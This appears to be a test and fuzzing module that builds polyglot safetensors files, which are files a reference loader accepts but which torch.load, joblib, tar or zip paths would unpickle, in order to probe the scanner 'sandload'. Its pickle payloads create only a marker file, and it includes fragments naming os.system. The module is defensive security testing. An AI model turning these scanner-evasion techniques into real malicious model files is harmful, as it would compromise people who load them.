"""Builders of safetensors files aimed at the gaps between sandload's rules and the loaders in
``oracle.loaders``: each builder writes a file that the reference ``safetensors`` package loads
and that some loader would also open, with a payload that creates a marker file when it runs
(``open(marker, "w")``: harmless, and the audit hook sees it).

``generate(rng, marker)`` draws candidates from every family for the property test and the
fuzz target; the named builders are the hole classes the tests prove one by one.
"""

from __future__ import annotations

import io
import json
import pickle
import random
import struct
import tarfile
import zipfile
import zlib

# --- safetensors framing -------------------------------------------------------------------------


def frame(header: bytes, data: bytes) -> bytes:
    return struct.pack("<Q", len(header)) + header + data


def tail(size: int, name_end: bytes = b'"') -> bytes:
    """What closes a header whose only key is a long string: the rest of one U8 tensor's entry."""
    return name_end + b':{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (size, size)


def reference_loads(data: bytes) -> bool:
    """Whether the reference ``safetensors`` package accepts the bytes."""
    from safetensors.numpy import load

    try:
        load(data)
        return True
    except Exception:  # noqa: BLE001 - any refusal
        return False


# --- payloads ------------------------------------------------------------------------------------


def payload(marker: str, protocol: int = 0) -> bytes:
    """A pickle that calls ``builtins.open(marker, "w")``."""
    m = marker.encode()
    if protocol == 0:
        return b"cbuiltins\nopen\n(V" + m + b"\nVw\ntR."
    return pickle.dumps(_Opener(marker), protocol=protocol)


class _Opener:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (open, (self.marker, "w"))


# Where a pickle walk may go on in one CPython unpickler and not the other (each followed by
# the payload). The first three are accepted by pickle._Unpickler only.
PYTHON_ONLY_PRELUDES = {
    "float-space": b"F 1.5 \n0",
    "float-underscore": b"F1_0.5\n0",
    "memo-key-over-64-bits": b"N" + b"p99999999999999999999\n0",
    "plain": b"",
}


# --- 1. pickle from byte 0: a counted opcode in the header length hops into the JSON ---------------


def _hops(distance: int) -> list[int]:
    """Lengths (2 + n, n in 32..126: a SHORT_BINBYTES whose length byte is printable) that add
    up to ``distance`` exactly."""
    if distance < 34:
        raise ValueError(distance)
    k = -(-distance // 128)
    base, extra = divmod(distance, k)
    return [base + (1 if i < extra else 0) for i in range(k)]


def pickle_hop(marker: str, first: bytes = b"B", prelude: bytes = b"", gap: int = 0, hop_len: int = 100,
               at_eof: bytes = b"", protocol: int = 0, short_frame: bool = False, with_payload: bool = True) -> bytes:
    """A safetensors file that an unpickler reads from byte 0: the header length's low byte is
    ``first`` (BINBYTES ``B``, BINUNICODE ``X``, BINSTRING ``T``: a 4-byte length read from the
    header length itself), which hops into the JSON key; SHORT_BINBYTES hops with printable
    lengths cross the key and the rest of the header; in the tensor data ``prelude`` (an
    argument only one unpickler accepts), an optional ``gap`` (a BINBYTES of that many bytes: the
    payload beyond sandload's 64 KiB window), then the payload, then ``at_eof``."""
    assert first in (b"B", b"X", b"T")
    n = first[0] + 256 * hop_len
    landing = 5 + hop_len  # the file offset after the first opcode's argument
    header_end = 8 + n
    body = prelude
    if gap:
        body += b"B" + struct.pack("<I", gap) + b"\0" * gap
    carried = payload(marker, protocol) if with_payload else b""
    if short_frame:
        # A FRAME that claims more than the file holds: pickle._Unpickler reads it short and runs
        # it; the C unpickler refuses it.
        carried = b"\x95" + struct.pack("<Q", len(carried) + 4096) + carried
    body += carried + at_eof
    closing = tail(len(body)) + b" " * 3
    # The last hop covers the end of the key and the closing; it starts 2 + f before the data.
    f = 126
    last = header_end - 2 - f
    if len(closing) > f or last - landing < 34:
        raise ValueError("hop_len too small for this header")
    key = bytearray(b"a" * (last - 10))
    pos = landing - 10  # offsets into the key (the key starts at file offset 10)
    for step in _hops(last - landing):
        key[pos] = ord("C")
        key[pos + 1] = step - 2
        pos += step
    key += b"C" + bytes([f])
    header = b'{"' + bytes(key)
    header += b"a" * (n - len(header) - len(closing)) + closing
    assert len(header) == n, (len(header), n)
    return frame(header, body)


# --- 2. gzip from byte 0: stored deflate blocks in a JSON string -------------------------------------

# (LEN, NLEN) byte pairs whose four bytes are valid UTF-8 inside a JSON string: LEN's bytes
# printable ASCII, NLEN's (their complements) one two-byte character, never a C1 control.
_STORED_LENS = sorted(
    l1 * 256 + l0 for l0 in range(0x20, 0x3D) for l1 in range(0x40, 0x7F) if l0 != 0x22 and l1 != 0x5C
)
_STORED_SET = set(_STORED_LENS)


def _stored_tiling(total: int, last_min: int) -> list[int]:
    """LEN values of stored blocks (each taking 5 + LEN bytes) that tile ``total`` bytes exactly,
    the last at least ``last_min``."""
    import bisect

    def closest(x: int) -> int:
        i = min(max(bisect.bisect_left(_STORED_LENS, x), 0), len(_STORED_LENS) - 1)
        return min(_STORED_LENS[max(i - 1, 0): i + 1], key=lambda v: abs(v - x))

    for k in range(1, 10_000):
        if total < k * (5 + _STORED_LENS[0]):
            break
        if total > k * (5 + _STORED_LENS[-1]):
            continue
        lens, remaining = [], total
        for i in range(k - 2):
            v = closest(remaining // (k - i) - 5)
            lens.append(v)
            remaining -= 5 + v
        if k == 1:
            if remaining - 5 in _STORED_SET and remaining - 5 >= last_min:
                return [remaining - 5]
            continue
        for v in _STORED_LENS:
            last = remaining - 10 - v
            if last in _STORED_SET and last >= last_min:
                return lens + [v, last]
    raise ValueError("no tiling")


def gzip_polyglot(marker: str, flags: int = 0) -> bytes:
    """A safetensors file that is a gzip stream (joblib.load, gzip.open): the header length is
    ``1f 8b 08 flags``; MTIME is bytes 4-7, XFL the ``{``, OS the ``"`` that opens the only key,
    and the deflate stream begins in the key as stored blocks whose 5-byte headers are valid UTF-8.
    The last stored block in the header carries the end of the JSON; the final block, in the
    tensor data, carries a newline and the payload: joblib's unpickler reads a UNICODE line (the
    JSON, decompressed) and then the payload. The gzip trailer is valid."""
    assert flags in (0, 1, 4, 5), "FHCRC makes zlib check a CRC of the header, not UTF-8"
    n = 0x1F | 0x8B << 8 | 0x08 << 16 | flags << 24
    header_end = 8 + n
    key = bytearray(b'{"')
    if flags & 4:  # FEXTRA: a printable XLEN and that many bytes of key
        key += b"  " + b"a" * 0x2020
    start = 8 + len(key)
    final_content = b"\n0" + payload(marker) 
    data_len = 5 + len(final_content) + 8
    closing = tail(data_len) + b" " * 7
    blocks = _stored_tiling(header_end - start, len(closing))
    content = bytearray()
    for i, length in enumerate(blocks):
        head = bytes([0x20, length & 0xFF, length >> 8, 0xFF - (length & 0xFF), 0xFF - (length >> 8)])
        key += head
        body = bytearray(b"a" * length)
        if i == 0:
            body[0] = ord("V")  # UNICODE: its line runs to the newline in the final block
        if i == len(blocks) - 1:
            body[-len(closing):] = closing
        key += body
        content += body
    header = bytes(key[8 - 8:])
    assert len(header) == n, (len(header), n)
    content += final_content
    data = bytes([0x01]) + struct.pack("<HH", len(final_content), 0xFFFF ^ len(final_content)) + final_content
    data += struct.pack("<II", zlib.crc32(bytes(content)), len(content) & 0xFFFFFFFF)
    assert len(data) == data_len
    return frame(header, data)


# --- 3. tar from byte 0: the first 512 bytes are a header tarfile accepts ---------------------------

CHECKSUM_STYLES = {
    # How the checksum field spells the number; tarfile.nti reads every one of these.
    "octal": lambda c: b"%07o " % c,
    "0o-prefix": lambda c: b"0o%05o " % c,
    "underscores": lambda c: (b"%06o" % c)[:3] + b"_" + (b"%06o" % c)[3:] + b" ",
    "plus-sign": lambda c: b"+%06o " % c,
    "file-separator": lambda c: b"\x1c%06o\x1f" % c,
}


def _tar_member(name: str, data: bytes) -> bytes:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info.tobuf(format=tarfile.GNU_FORMAT) + data + b"\0" * (-len(data) % 512)


def tar_polyglot(marker: str, style: str = "0o-prefix", short_header: bool = False) -> bytes:
    """A safetensors file whose first 512 bytes are a tar header ``tarfile`` accepts, with the
    checksum spelled as ``style``; the archive's next member, in the tensor data, is
    ``storages``, the first member torch.load's legacy tar path extracts and unpickles. With
    ``short_header`` the JSON ends before byte 100 and the tar fields sit in the tensor data
    (where a checksum can hold the ASCII separators \\x1c-\\x1f that Python's strip() removes)."""
    spell = CHECKSUM_STYLES[style]
    members = _tar_member("storages", payload(marker)) + b"\0" * 1024

    def fields(size: int) -> bytearray:
        b = bytearray(b"0" * 412)  # offsets 100..511
        b[0:8] = b"0000644 "
        b[8:16] = b"0000000 "
        b[16:24] = b"0000000 "
        b[24:36] = b"%011o " % size
        b[36:48] = b"00000000000 "
        b[48:56] = b"        "
        b[56:57] = b"0"
        b[57:157] = b"a" * 100  # linkname
        b[157:229] = b"b" * 72  # magic, version, uname, gname (v7: not checked)
        b[229:245] = b"0000000 0000000 "  # devmajor, devminor
        b[245:400] = b"p" * 155  # prefix (not used without ustar magic)
        return b

    if short_header:
        # Header: a few bytes of JSON; tensor data from byte < 100 holds the fields.
        pad = 0
        while True:
            head_json = b'{"a"' + tail(0, b"")[0:0]
            data_len = 0
            # tensor data: rest of the 512-byte block, then the members
            # (iterate: the size in the JSON changes its length)
            for _ in range(3):
                header = b'{"a":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (data_len, data_len) + b" " * pad
                first_block_data = 512 - 8 - len(header)
                data_len = first_block_data + len(members)
            header = b'{"a":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (data_len, data_len) + b" " * pad
            if 8 + len(header) <= 100:
                break
            raise ValueError("header too long")
        block = bytearray(frame(header, b"")[: 8 + len(header)] + b"\0" * (100 - 8 - len(header)))
        block += fields(0)
        block = block[:512]
        chk = 256 + sum(block[:148]) + sum(block[156:])
        block[148:156] = spell(chk)[:8].ljust(8, b" ")
        return bytes(block) + members

    # Long header: the key string covers bytes 10..511 and beyond; the first member's data
    # spans the rest of the header, and "storages" starts at the first 512 boundary in the data.
    n = 2048 - 8  # header ends at 2048
    member1_size = (2048 - 512)
    block = bytearray(struct.pack("<Q", n) + b'{"' + b"k" * 90)
    block += fields(member1_size)
    block = block[:512]
    chk = 256 + sum(block[:148]) + sum(block[156:])
    block[148:156] = spell(chk)[:8].ljust(8, b" ")
    data = members
    closing = tail(len(data)) + b" " * 5
    header = bytes(block[8:]) + b"k" * (n - (512 - 8) - len(closing)) + closing
    assert len(header) == n
    return frame(header, data)


# --- 4. zip from the end ---------------------------------------------------------------------------


def zip_archive(marker: str, comment: int = 0) -> bytes:
    """A zip with ``archive/data.pkl`` (the payload), as torch.save lays it out, and a comment
    of ``comment`` bytes after the end record (which pushes the record away from the end)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", payload(marker, 2))
        z.writestr("archive/version", "3\n")
        if comment:
            z.comment = b"c" * min(comment, 65535)
    return buf.getvalue()


def zip_polyglot(marker: str, comment: int = 0, pk_prefix: bool = False, trailing: int = 0) -> bytes:
    """A safetensors file whose tensor data ends with a zip archive (its offsets made relative to
    the file, so both ``zipfile`` and miniz find the central directory), plus ``trailing`` bytes
    after it that neither belongs to. With ``pk_prefix`` the header length is 0x04034B50 (a 67 MB
    header), so the file starts with ``PK\\3\\4`` and torch.load takes its zip path."""
    z = zip_archive(marker, comment)
    n = 0x04034B50 if pk_prefix else 4096
    data_len_guess = len(z) + trailing
    for _ in range(3):
        closing = tail(data_len_guess) + b" " * 3
        header = b'{"' + b"z" * (n - 2 - len(closing)) + closing
        base = 8 + n
        z2 = _rebase_zip(z, base)
        data = z2 + b"t" * trailing
        data_len_guess = len(data)
    closing = tail(len(data)) + b" " * 3
    header = b'{"' + b"z" * (n - 2 - len(closing)) + closing
    return frame(header, data)


def _rebase_zip(z: bytes, base: int) -> bytes:
    """Shifts every offset in a zip by ``base`` (the archive then works at that file offset)."""
    out = bytearray(z)
    eocd = out.rfind(b"PK\x05\x06")
    cd_size, cd_off = struct.unpack_from("<II", out, eocd + 12)
    struct.pack_into("<I", out, eocd + 16, cd_off + base)
    at = cd_off
    while out[at:at + 4] == b"PK\x01\x02":
        n, x, c = struct.unpack_from("<HHH", out, at + 28)
        (local,) = struct.unpack_from("<I", out, at + 42)
        struct.pack_into("<I", out, at + 42, local + base)
        at += 46 + n + x + c
    return bytes(out)


# --- 5. HDF5 ---------------------------------------------------------------------------------------


def hdf5_polyglot(userblock: int = 4096) -> bytes:
    """A real HDF5 file (h5py, one dataset) written with a user block of ``userblock`` bytes,
    whose user block is overwritten by a safetensors prefix and header; the HDF5 superblock and
    everything after it are the tensor data."""
    import h5py
    import numpy as np

    buf = io.BytesIO()
    with h5py.File(buf, "w", userblock_size=userblock) as f:
        f.create_dataset("w", data=np.arange(16, dtype=np.float32))
    raw = buf.getvalue()
    # The header ends somewhere in the user block; the data runs to the end of the file.
    n = userblock - 8 - 64
    data_len = len(raw) - 8 - n
    closing = tail(data_len) + b" "
    header = b'{"' + b"h" * (n - 2 - len(closing)) + closing
    return frame(header, raw[8 + n:])


# --- the generator ---------------------------------------------------------------------------------

FAMILIES = ("hop", "gzip", "tar", "zip", "hdf5", "reference")


def generate(rng: random.Random, marker: str, big: bool = True) -> tuple[str, bytes]:
    """One candidate: (a description, the bytes). Every family, every parameter drawn; ``big``
    allows the 67-85 MB variants (gzip with FEXTRA, a zip whose header length spells PK\\3\\4)."""
    family = rng.choice(FAMILIES)
    if family == "hop":
        first = rng.choice([b"B", b"X", b"T"])
        prelude = rng.choice(list(PYTHON_ONLY_PRELUDES.values()))
        gap = rng.choice([0, 0, 100, 70_000])
        hop_len = rng.choice([80, 100, 200, 333, 1000, 4096])
        at_eof = rng.choice([b"", b"", b"cos\nsystemX", b"c", b"ibuiltins\nopen\n"])
        protocol = rng.choice([0, 2, 4])
        short_frame = rng.random() < 0.25
        with_payload = rng.random() < 0.9
        desc = (f"hop first={first!r} prelude={prelude!r} gap={gap} hop_len={hop_len} at_eof={at_eof!r} "
                f"p{protocol} short_frame={short_frame} payload={with_payload}")
        return desc, pickle_hop(marker, first, prelude, gap, hop_len, at_eof, protocol, short_frame, with_payload)
    if family == "gzip":
        flags = rng.choice([0, 1, 4, 5] if big else [0, 1])
        return f"gzip flags={flags}", gzip_polyglot(marker, flags)
    if family == "tar":
        style = rng.choice(list(CHECKSUM_STYLES))
        short = rng.random() < 0.5
        return f"tar style={style} short={short}", tar_polyglot(marker, style, short)
    if family == "zip":
        comment = rng.choice([0, 100, 60_000, 65_535])
        trailing = rng.choice([0, 0, 10, 2_000])
        pk = big and rng.random() < 0.2
        return f"zip comment={comment} trailing={trailing} pk_prefix={pk}", zip_polyglot(marker, comment, pk, trailing)
    if family == "hdf5":
        ub = rng.choice([512, 1024, 4096, 65536])
        return f"hdf5 userblock={ub}", hdf5_polyglot(ub)
    # The control group: what the reference writer makes of random tensors.
    import numpy as np
    from safetensors.numpy import save

    tensors = {}
    for i in range(rng.randint(1, 6)):
        shape = [rng.randint(0, 7) for _ in range(rng.randint(0, 3))]
        dtype = rng.choice([np.float32, np.float16, np.int64, np.uint8, np.bool_])
        arr = np.frombuffer(rng.randbytes(int(np.prod(shape)) * np.dtype(dtype).itemsize), dtype=dtype).reshape(shape)
        tensors[f"t{i}_{rng.randint(0, 10**6)}"] = arr
    return "reference", save(tensors)
